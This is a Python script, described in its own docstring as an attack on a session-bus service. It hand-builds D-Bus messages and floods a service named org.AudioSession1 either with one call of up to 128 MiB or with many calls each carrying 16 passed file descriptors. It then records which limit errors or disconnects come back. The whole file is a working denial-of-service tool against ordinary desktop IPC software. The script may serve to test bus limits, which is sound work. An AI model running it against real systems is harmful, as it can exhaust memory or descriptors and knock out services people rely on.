"""Attacks a service on the session bus over a socket of its own.

    bus-attack.py long BYTES          one call of so many bytes, at most 2^27
    bus-attack.py descriptors COUNT   so many calls with 16 descriptors each

Ends when the bus has taken everything, or has ended the connection.
"""

import array
import os
import socket
import struct
import sys


def field(code, kind, text):
    value = struct.pack("<I", len(text)) if kind != b"g" else bytes([len(text)])
    return bytes([code, 1]) + kind + b"\0" + value + text + b"\0"


def header(serial, to, path, interface, member, body, signature=b"", descriptors=0):
    parts = [field(1, b"o", path), field(2, b"s", interface), field(3, b"s", member), field(6, b"s", to)]
    if signature:
        parts.append(field(8, b"g", signature))
    if descriptors:
        parts.append(bytes([9, 1]) + b"u\0" + struct.pack("<I", descriptors))
    fields = b""
    for part in parts:
        fields += b"\0" * (-len(fields) % 8) + part
    start = b"l\1\0\1" + struct.pack("<III", body, serial, len(fields)) + fields
    return start + b"\0" * (-len(start) % 8)


def ours(serial, body, signature, descriptors=0):
    return header(serial, b"org.AudioSession1", b"/org/AudioSession1", b"org.AudioSession1.Manager",
                  b"ListSessions", body, signature, descriptors)


address = dict(part.split("=", 1) for part in os.environ["DBUS_SESSION_BUS_ADDRESS"].split(":", 1)[1].split(","))
bus = socket.socket(socket.AF_UNIX)
bus.connect(address["path"] if "path" in address else "\0" + address["abstract"])
bus.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
assert bus.recv(4096).startswith(b"OK")
bus.sendall(b"NEGOTIATE_UNIX_FD\r\n")
assert bus.recv(4096).startswith(b"AGREE")
bus.sendall(b"BEGIN\r\n" + header(1, b"org.freedesktop.DBus", b"/org/freedesktop/DBus", b"org.freedesktop.DBus",
                                   b"Hello", 0))
bus.recv(4096)
kind, number = sys.argv[1], int(sys.argv[2])
if kind == "long":
    # Three arrays of bytes, as one has room for 64 MiB.
    body = number - len(ours(2, 0, b"ayayay"))
    lengths = [(body - 12) // 3 // 4 * 4] * 2
    lengths.append(body - 12 - sum(lengths))
    bus.sendall(ours(2, body, b"ayayay"))
    for length in lengths:
        bus.sendall(struct.pack("<I", length) + bytes(length))
else:
    null = os.open("/dev/null", os.O_RDONLY)
    for serial in range(2, 2 + number):
        message = ours(serial, 64, b"h" * 16, 16) + struct.pack("<16I", *range(16))
        bus.sendmsg([message], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null] * 16))])
# The bus answers what it has taken; a last call says that it has taken all.
bus.sendall(header(number + 10, b"org.freedesktop.DBus", b"/org/freedesktop/DBus", b"org.freedesktop.DBus.Peer",
                   b"Ping", 0))
answers = b""
while struct.pack("<I", number + 10) not in answers[-4096:]:
    part = bus.recv(65536)
    if not part:
        break
    answers += part
names = [name for name in (b"LimitsExceeded", b"NotSupported", b"InvalidArgs", b"Disconnected") if name in answers]
print(f"{len(answers)} bytes of answers, with", *[name.decode() for name in names])
